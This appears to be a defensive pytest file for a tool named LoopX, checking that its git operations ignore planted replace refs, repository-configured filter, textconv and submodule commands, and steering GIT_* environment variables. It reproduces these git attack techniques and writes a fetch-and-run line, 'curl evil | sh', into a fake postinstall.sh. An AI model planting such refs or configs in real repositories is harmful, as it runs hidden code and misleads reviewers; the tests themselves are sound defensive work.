"""Every git LoopX runs for the person (the diff the board shows, the merge,
saving a card's work, making a workspace) sees the objects themselves and runs
nothing from the repository (issue #38): replace refs are ignored, and a
filter, diff program or `!command` the repository's own config sets is not run;
a caller's GIT_* environment does not steer it. Each attack runs with real git
on a real worktree; the "really" tests show the harm without LoopX's helper."""

from __future__ import annotations

import os
import subprocess

import pytest

from tests.conftest import GIT_ID, git
from tests.gitrepo import commit, head, open_workspace

from ..kernel.conftest import held, worked


@pytest.fixture
def repo(repo_team):
    return repo_team


def _plain_git(cwd, *args: str) -> str:
    """git as a person types it (replace refs honoured)."""
    env = dict(os.environ, **GIT_ID, GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1")
    return subprocess.run(
        ["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True, timeout=60
    ).stdout


def _replace_main_with_a_copy_that_adds(root, path: str, text: str) -> str:
    """The attack of #38: a commit that looks like main's tip (same parents,
    same message) but whose tree adds ``path``; ``refs/replace/<main>`` → it."""
    main = head(root)
    blob = subprocess.run(
        ["git", "hash-object", "-w", "--stdin"], cwd=root, input=text, capture_output=True, text=True, check=True
    ).stdout.strip()
    index = root / ".git" / "evil-index"
    env = dict(os.environ, **GIT_ID, GIT_INDEX_FILE=str(index))
    subprocess.run(["git", "read-tree", main], cwd=root, env=env, check=True)
    subprocess.run(
        ["git", "update-index", "--add", "--cacheinfo", f"100755,{blob},{path}"], cwd=root, env=env, check=True
    )
    tree = subprocess.run(
        ["git", "write-tree"], cwd=root, env=env, capture_output=True, text=True, check=True
    ).stdout.strip()
    index.unlink()
    parents = [a for p in git(root, "rev-list", "--parents", "-n1", main).split()[1:] for a in ("-p", p)]
    copy = git(root, "commit-tree", tree, *parents, "-m", git(root, "log", "-1", "--format=%B", main).strip()).strip()
    git(root, "update-ref", f"refs/replace/{main}", copy)
    return main


def _done(board, key, tree, files):
    held(board, key, "a1")
    commit(tree, files, "the change")
    worked(board, key, "a1", "the change")
    return board.ok("done", key, "--summary", "the change", agent="a1")


def test_a_replace_ref_really_changes_what_plain_git_shows(repo):
    """The harm: git honours ``refs/replace`` everywhere by default."""
    _replace_main_with_a_copy_that_adds(repo.root, "postinstall.sh", "curl evil | sh\n")
    assert "postinstall.sh" in _plain_git(repo.root, "ls-tree", "--name-only", "main")


def test_a_replace_ref_changes_neither_the_diff_the_person_sees_nor_what_is_merged(repo):
    from loopx_core.ops import merges

    repo.ok("card", "add", "greet")
    tree = open_workspace(repo, 1)
    _done(repo, "LX-1", tree, {"README.md": "hello, reviewed\n"})
    main = _replace_main_with_a_copy_that_adds(repo.root, "postinstall.sh", "curl evil | sh\n")

    store = repo.store()
    try:
        diff = merges.card_diff(store, 1)
    finally:
        store.close()
    assert [f.path for f in diff.summary.files] == ["README.md"] and "postinstall.sh" not in diff.patch

    res = repo.cli("gate", "answer", "G-1", "approve", tty=True)
    assert res.code == 0, res
    merged = head(repo.root)
    assert git(repo.root, "--no-replace-objects", "rev-list", "--parents", "-n1", merged).split()[1] == main
    assert git(repo.root, "--no-replace-objects", "ls-tree", "--name-only", "-r", "main").split() == [
        "README.md",
        "src/app.py",
    ]
    assert not (repo.root / "postinstall.sh").exists()


def _plant_filter(root, marker) -> None:
    """A filter in the repository's own config, named for every file by an
    attribute: git runs its programs on add (clean) and checkout (smudge)."""
    for kind in ("clean", "smudge"):
        git(root, "config", f"filter.evil.{kind}", f"touch {marker}-{kind}; cat")
    (root / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil\n")
    git(root, "config", "diff.evil.textconv", f"touch {marker}-textconv; cat")
    git(root, "config", "submodule.x.update", f"!touch {marker}-submodule")


def test_a_planted_filter_really_runs_in_plain_git(repo, tmp_path):
    marker = tmp_path / "ran"
    _plant_filter(repo.root, marker)
    (repo.root / "README.md").write_text("changed\n")
    git(repo.root, "add", "README.md")
    assert (tmp_path / "ran-clean").exists()


def test_a_filter_planted_in_the_repositorys_config_runs_nothing_as_the_person(repo, tmp_path):
    """Making the workspace (checkout: smudge), saving its uncommitted work
    (add: clean), the diff and the merge's answer: none runs the planted
    programs (the merge is refused while the filter is there)."""
    from loopx_core.ops import merges
    from loopx_core.workspace import git as wgit

    marker = tmp_path / "ran"
    _plant_filter(repo.root, marker)
    repo.ok("card", "add", "greet")
    tree = open_workspace(repo, 1)
    (tree / "notes.txt").write_text("uncommitted\n")
    assert wgit.save_wip(tree, "refs/loopx/LX-1/wip") is not None
    held(repo, "LX-1", "a1")
    # the agent's commit itself may run the filter: that is inside its sandbox; only LoopX's calls count
    subprocess.run(
        ["git", "-c", "filter.evil.clean=", "-c", "filter.evil.smudge=", "add", "-A"],
        cwd=tree,
        env=dict(os.environ, **GIT_ID),
        check=True,
    )
    subprocess.run(
        ["git", "-c", "filter.evil.clean=", "commit", "-q", "-m", "work"],
        cwd=tree,
        env=dict(os.environ, **GIT_ID),
        check=True,
    )
    worked(repo, "LX-1", "a1", "work")
    repo.ok("done", "LX-1", "--summary", "work", agent="a1")
    store = repo.store()
    try:
        assert "notes.txt" in merges.card_diff(store, 1).patch
    finally:
        store.close()
    # the merge itself is the person's to make by hand while the repository's own
    # config names a filter (the merge-driver rule, tests/kernel/test_merge_pin.py)
    answer = repo.cli("gate", "answer", "G-1", "approve", tty=True)
    assert answer.code == 5 and answer.data["error"]["code"] == "merge_refused"
    assert sorted(p.name for p in tmp_path.glob("ran-*")) == []


def test_a_callers_git_environment_does_not_steer_loopxs_git(tmp_path, monkeypatch):
    """`loopx` runs inside an agent's shell too: its GIT_DIR, GIT_CONFIG_* or
    GIT_EXEC_PATH never reach LoopX's git calls."""
    from loopx_core.workspace import git as wgit

    root = tmp_path / "repo"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "a").write_text("a\n")
    git(root, "add", "a")
    git(root, "commit", "-q", "-m", "first")
    marker = tmp_path / "ran"
    (root / ".git" / "info" / "attributes").write_text("* filter=evil\n")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "filter.evil.clean")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", f"touch {marker}; cat")
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "elsewhere"))
    (root / "a").write_text("a longer line than before\n")  # (another size: no racy-git stat match)
    assert wgit.snapshot(root).dirty
    assert not marker.exists()
